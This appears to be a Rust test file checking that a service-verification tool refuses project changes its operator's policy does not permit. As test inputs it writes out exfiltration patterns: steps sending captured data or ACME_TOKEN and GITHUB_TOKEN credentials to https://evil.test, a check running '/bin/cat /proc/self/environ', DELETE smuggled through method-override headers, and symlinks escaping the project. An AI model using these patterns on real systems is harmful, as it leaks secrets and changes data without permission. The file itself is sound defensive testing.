//! Changes of the sources that would use something which the operator does not permit. None of them sends
//! anything.

use crate::harness::Run;
use crate::trust::permits::Setup;

/// Applies a change to the sound project, with the policy of before, and requires that it is refused with these
/// words, at this place.
fn refused(change: impl FnOnce(&Setup), args: &[&str], words: &str, place: &str) -> Run {
    let setup = Setup::new();
    let path = setup.saved(&setup.needed());
    change(&setup);
    let run = setup.run(&[args, &["--policy", &path]].concat(), &[]);
    assert_eq!(run.code, Some(2), "{words}: {run}");
    assert!(run.err.contains("[not-permitted]"), "{run}");
    assert!(run.err.contains(words), "{words}: {run}");
    assert!(run.err.contains(&format!("--> {place}")), "{place}: {run}");
    setup.nothing_happened(&run);
    run
}

fn settings(line: impl Fn(&Setup) -> String, words: &str) -> Run {
    let change = |setup: &Setup| {
        let text = setup.project.read("avouch.yaml");
        setup.project.write("avouch.yaml", &format!("{}{text}", line(setup)));
    };
    refused(change, &["check"], words, "avouch.yaml")
}

/// The actor `acme` with more settings, or others.
fn actor(from: &str, to: &str, words: &str) -> Run {
    refused(|setup| setup.project.edit("avouch.yaml", from, to), &["check"], words, "avouch.yaml")
}

/// The check with another step.
fn step(step: &str, words: &str) -> Run {
    let change = |setup: &Setup| {
        let step = step.replace("EVIL", &setup.evil());
        let text = setup.project.read("checks/claim.yaml");
        setup.project.write("checks/claim.yaml", &format!("{text}    - {step}\n"));
    };
    refused(change, &["check"], words, "checks/claim.yaml")
}

/// Another check of the claim.
fn check(check: &str, words: &str) -> Run {
    let change = |setup: &Setup| {
        let text = setup.project.read("checks/claim.yaml");
        let check = check.replace("EVIL", &setup.evil());
        setup.project.write("checks/claim.yaml", &format!("{text}- {check}\n"));
    };
    refused(change, &["check"], words, "checks/claim.yaml")
}

const PEM: &str = "-----BEGIN CERTIFICATE-----\nMAA=\n-----END CERTIFICATE-----\n";

#[test]
fn a_pinned_target_cannot_be_moved_to_another_machine() {
    let change = |setup: &Setup| {
        let text = setup.project.read("avouch.yaml");
        let (host, evil) = (setup.service.address, setup.evil());
        let more = format!("connect_to: {{ \"{host}\": \"{evil}\" }}\nroots: [ca.pem]\n");
        setup.project.write("avouch.yaml", &format!("{more}{text}"));
        setup.project.write("ca.pem", PEM);
    };
    let run = refused(change, &["check"], "in place of `127.0.0.1:", "avouch.yaml:1:");
    assert!(run.err.contains("trust in the certificate authorities `sha256:"), "{run}");
    assert!(run.err.contains("2 mistakes in the sources; no request was sent"), "{run}");
}

#[test]
fn names_of_the_demo_that_lead_elsewhere_demand_a_policy() {
    let setup = Setup::new();
    let text = setup.project.read("avouch.yaml");
    let target = format!("http://{}", setup.service.address);
    let more = format!("connect_to: {{ x.demo.test: \"{}\" }}\n", setup.evil());
    let text = text.replace(&target, "demo").replace(
        "bearer: \"${ACME_TOKEN}\"",
        "bearer: \"${GITHUB_TOKEN}\", send_to: [\"https://x.demo.test\"]",
    );
    setup.project.write("avouch.yaml", &format!("{more}{text}"));
    let run = setup.run(&["check"], &[("CI", "true")]);
    assert_eq!(run.code, Some(2), "{run}");
    assert!(run.out.contains("https://x.demo.test"), "{run}");
    setup.nothing_happened(&run);
}

#[test]
fn no_write_follows_an_answer_and_no_word_makes_it_a_read() {
    let wants = |request: &str| format!("{{ name: more, {request}, expect: {{ status: 200 }} }}");
    let words = "requests that change something on `127.0.0.1:";
    step(&wants("post: /notes, as: acme, reads: true"), words);
    for field in ["X-HTTP-Method-Override", "x-http-method", "X-Method-Override"] {
        step(&wants(&format!("get: /me, as: acme, headers: {{ {field}: DELETE }}")), words);
    }
    let graphql = "graphql: { query:";
    let mutation = format!("{graphql} \"mutation {{ leave }}\" }}");
    step(&wants(&format!("post: /graphql, as: acme, clean_up: none, {mutation}")), words);
    let setup = Setup::new();
    let path = setup.saved(&setup.needed());
    let text = setup.project.read("checks/claim.yaml");
    let query = format!("{graphql} \"query {{ me }}\" }}");
    let reads = wants(&format!("post: /graphql, as: acme, reads: true, {query}"));
    setup.project.write("checks/claim.yaml", &format!("{text}    - {reads}\n"));
    let lint = setup.run(&["lint", "--policy", &path], &[]);
    assert!(!lint.err.contains("not-permitted"), "{lint}");
    let change = |setup: &Setup| {
        let captures = "get: /me, capture: { at: /name }, expect";
        setup.project.edit("checks/claim.yaml", "get: /me, expect", captures);
        let text = setup.project.read("checks/claim.yaml");
        let more = wants("post: \"${at}\", reads: true");
        setup.project.write("checks/claim.yaml", &format!("{text}    - {more}\n"));
    };
    refused(change, &["check"], "at addresses in answers", "checks/claim.yaml");
    let change = |setup: &Setup| {
        let captures = "get: /me, capture: { at: /name }, expect";
        setup.project.edit("checks/claim.yaml", "get: /me, expect", captures);
        let text = setup.project.read("checks/claim.yaml");
        let more = wants("get: \"https://evil.test/${at}\"");
        setup.project.write("checks/claim.yaml", &format!("{text}    - {more}\n"));
    };
    let sent = "the credential from the variable `ACME_TOKEN` is sent to `https://evil.test`";
    refused(change, &["check"], sent, "checks/claim.yaml");
}

#[test]
fn no_actor_reads_or_sends_more_than_is_permitted() {
    let robot = "actors:\n  robot: { bearer: \"${GITHUB_TOKEN}\" }\n";
    let run = actor("actors:\n", robot, "the variable `GITHUB_TOKEN` as `bearer`");
    assert!(run.err.contains("avouch.yaml:9:21"), "{run}");
    let sent = "the credential from the variable `ACME_TOKEN` is sent to `https://evil.test`";
    let send_to = ", bearer: \"${ACME_TOKEN}\", send_to: [\"https://evil.test\"] }";
    actor(", bearer: \"${ACME_TOKEN}\" }", send_to, sent);
    let second = "actors:\n  b: { bearer: \"${ACME_TOKEN}\", send_to: [\"https://evil.test\"] }\n";
    actor("actors:\n", second, sent);
    let user = "basic: { user: \"${ACME_TOKEN}\", password: \"abcdefghijklmn\" }";
    actor("bearer: \"${ACME_TOKEN}\"", user, "the variable `ACME_TOKEN` as `basic.user`");
    let part = "bearer: \"x${ACME_TOKEN}${GITHUB_TOKEN}\"";
    actor("bearer: \"${ACME_TOKEN}\"", part, "the variable `GITHUB_TOKEN` as `bearer`");
    actor("tenant: acme", "tenant: \"${GITHUB_TOKEN}\"", "`GITHUB_TOKEN` as `tenant`");
}

#[test]
fn no_setting_leads_elsewhere() {
    let connect = "connect_to: { a.test: \"${GITHUB_TOKEN}\" }\n";
    let run = Setup::new();
    let path = run.saved(&run.needed());
    let text = run.project.read("avouch.yaml");
    run.project.write("avouch.yaml", &format!("{connect}{text}"));
    let run_of = run.run(&["check", "--policy", &path], &[]);
    assert_eq!(run_of.code, Some(2), "{run_of}");
    run.nothing_happened(&run_of);
    settings(|setup| format!("resolver: {}\n", setup.evil()), "the resolver `127.0.0.1:");
    let anchor = "trust_anchor: x.test. IN DNSKEY 257 3 13 QUJD\n";
    settings(|_| anchor.to_owned(), "the trust anchor `sha256:");
    settings(|_| "release: { get: /version }\n".to_owned(), "answers of `127.0.0.1:");
    let moved = |setup: &Setup| {
        let (target, evil) = (setup.service.address.to_string(), setup.evil());
        setup.project.edit("avouch.yaml", &target, &evil);
    };
    refused(moved, &["check"], "connections to `127.0.0.1:", "checks/claim.yaml");
}

#[test]
fn the_command_line_is_compared_too() {
    let setup = Setup::new();
    let path = setup.saved(&setup.needed());
    let target = format!("http://{}", setup.evil());
    for env in [&[][..], &[("AVOUCH_TARGET", target.as_str())]] {
        let args = ["check", "--policy", &path, "--target", &target];
        let args = if env.is_empty() { &args[..] } else { &args[..3] };
        let run = setup.run(args, env);
        assert_eq!(run.code, Some(2), "{run}");
        assert!(run.err.contains(&format!("is sent to `{target}`")), "{run}");
        setup.nothing_happened(&run);
    }
}

#[test]
fn no_step_connects_redirects_or_writes_elsewhere() {
    let wants = |request: &str| format!("{{ name: more, {request}, expect: {{ status: 200 }} }}");
    step(&wants("get: \"https://EVIL/x\""), "connections to `127.0.0.1:");
    step(&wants("get: \"https://evil.test/${random}\""), "connections to `evil.test:443`");
    step(&wants("get: \"https://${random}.evil.test/\""), "connections to `*.evil.test:443`");
    step(&wants("get: /, redirects: 2"), "answers of `127.0.0.1:");
    let post = "post: /notes, as: acme, clean_up: none";
    step(&wants(post), "requests that change something on `127.0.0.1:");
    let change = |setup: &Setup| {
        let captures = "get: /me, capture: { at: /name }, expect";
        setup.project.edit("checks/claim.yaml", "get: /me, expect", captures);
        let text = setup.project.read("checks/claim.yaml");
        let more = wants("get: \"${at}\"");
        setup.project.write("checks/claim.yaml", &format!("{text}    - {more}\n"));
    };
    refused(change, &["check"], "lead to other hosts", "checks/claim.yaml");
}

#[test]
fn no_other_kind_of_check_leads_elsewhere() {
    let run = "the program `/bin/cat /proc/self/environ`";
    let program = "{ kind: command, run: [/bin/cat, /proc/self/environ], env: [GITHUB_TOKEN], \
                   text: { contains: x }, must_fail: [/bin/cat, /dev/null] }";
    check(program, run);
    let mail = "{ kind: dns, of: { domain: evil.test }, mx: true }";
    check(mail, "look-ups of the records of `evil.test`");
    let strict = "{ kind: dns, of: { domain: evil.test }, mta_sts: true }";
    check(strict, "connections to `mta-sts.evil.test:443`");
    let role = |setup: &Setup| {
        let text = setup.project.read("avouch.yaml");
        setup.project.write("avouch.yaml", &format!("hosts: {{ evil: evil.test }}\n{text}"));
        let text = setup.project.read("checks/claim.yaml");
        let tls = "- { kind: tls, host: evil, minimum: TLS 1.2 }";
        setup.project.write("checks/claim.yaml", &format!("{text}{tls}\n"));
    };
    refused(role, &["check"], "connections to `evil.test:443`", "checks/claim.yaml");
    let link = "{ kind: link, address: \"https://evil.test/\", title: Evil }";
    check(link, "connections to `evil.test:443`");
}

#[test]
fn credentials_in_a_file_of_further_tenants_need_permission() {
    let change = |setup: &Setup| {
        let text = setup.project.read("avouch.yaml");
        setup.project.write("avouch.yaml", &format!("tenants: tenants.jsonl\n{text}"));
        let tenant = "{\"name\": \"third\", \"tenant\": \"third\", \"client_key\": \"third\", \
                      \"shared_secret\": \"third-secret-0123456789\"}\n";
        setup.project.write("tenants.jsonl", tenant);
    };
    refused(change, &["check"], "the credentials in the file of `tenants:`", "avouch.yaml:1:");
}

#[test]
fn a_changed_certificate_authority_is_another_one() {
    let setup = Setup::new();
    let text = setup.project.read("avouch.yaml");
    setup.project.write("avouch.yaml", &format!("roots: [ca.pem]\n{text}"));
    setup.project.write("ca.pem", PEM);
    let path = setup.saved(&setup.needed());
    let lint = ["lint", "--policy", &path];
    assert_eq!(setup.run(&lint, &[]).code, Some(0));
    setup.project.write("ca.pem", &PEM.replace("MAA=", "MAB="));
    let run = setup.run(&lint, &[]);
    assert_eq!(run.code, Some(2), "{run}");
    assert!(run.err.contains("trust in the certificate authorities `sha256:"), "{run}");
}

#[test]
fn only_permitted_roles_waive_and_only_so_long() {
    let setup = Setup::new();
    let waiver = |role: &str, until: &str| {
        let text = format!(
            "words: \"The service keeps its word.\"\naccepts:\n\
             - {{ check: 1, step: it, at: /status, is: {{ equals: 200 }}, accepts_value: 500 }}\n\
             reason: A disk failed.\nrole: {role}\nticket: SEC-1\ntell_customers: It may fail.\n\
             day: 2026-11-27\nuntil: {until}\n"
        );
        setup.project.write("waivers/claim.yaml", &text);
    };
    let roles = "roles: { security: Head of security, intern: The intern }\n";
    setup.project.edit("avouch.yaml", "roles: { security: Head of security }\n", roles);
    let policy = |line: &str| setup.saved(&format!("{}waivers: [{line}]\n", setup.needed()));
    let run = |path: &str| setup.run(&["lint", "--policy", path], &[]);
    let all = policy("{ role: security }");
    waiver("security", "2026-12-31");
    assert!(!run(&all).err.contains("not-permitted"), "{}", run(&all));
    waiver("intern", "2026-12-31");
    let refused = run(&all);
    assert_eq!(refused.code, Some(2), "{refused}");
    assert!(refused.err.contains("the role `intern` to waive failures of `claim`"), "{refused}");
    assert!(refused.err.contains("waivers/claim.yaml:5:1"), "{refused}");
    std::fs::remove_file(setup.project.path("waivers/claim.yaml")).unwrap();
    for (line, permitted) in [
        ("{ role: security, claim: claim, until: 2026-12-31 }", true),
        ("{ role: security, claim: claim, until: 2026-12-30 }", false),
        ("{ role: security, claim: other }", false),
    ] {
        let path = policy(line);
        waiver("security", "2026-12-31");
        assert_eq!(!run(&path).err.contains("not-permitted"), permitted, "{line}");
        std::fs::remove_file(setup.project.path("waivers/claim.yaml")).unwrap();
    }
}

#[test]
fn a_file_outside_the_project_is_permitted_by_its_path() {
    let setup = Setup::new();
    let backups = setup.outside.path().join("backups");
    std::fs::create_dir(&backups).unwrap();
    std::fs::write(backups.join("a.dump"), "x").unwrap();
    let path = setup.saved(&setup.needed());
    let text = setup.project.read("checks/claim.yaml");
    let run = |folder: &str| {
        let check = format!(
            "- {{ kind: backup-age, states: [max_age], file: \"{folder}\", max_age: 24h, \
             must_fail: none.dump }}\n"
        );
        setup.project.write("checks/claim.yaml", &format!("{text}{check}"));
        setup.run(&["lint", "--policy", &path], &[])
    };
    let refused = run(&backups.display().to_string());
    assert!(refused.err.contains("which is outside the project"), "{refused}");
    std::os::unix::fs::symlink(&backups, setup.project.path("linked")).unwrap();
    let refused = run("linked");
    assert!(refused.err.contains("which is outside the project"), "{refused}");
    std::fs::create_dir(setup.project.path("own")).unwrap();
    let within = run("own");
    assert!(!within.err.contains("which is outside the project"), "{within}");
    std::os::unix::fs::symlink(backups.join("a.dump"), setup.project.path("own/b")).unwrap();
    let refused = run("own");
    assert!(refused.err.contains("which is outside the project"), "{refused}");
}
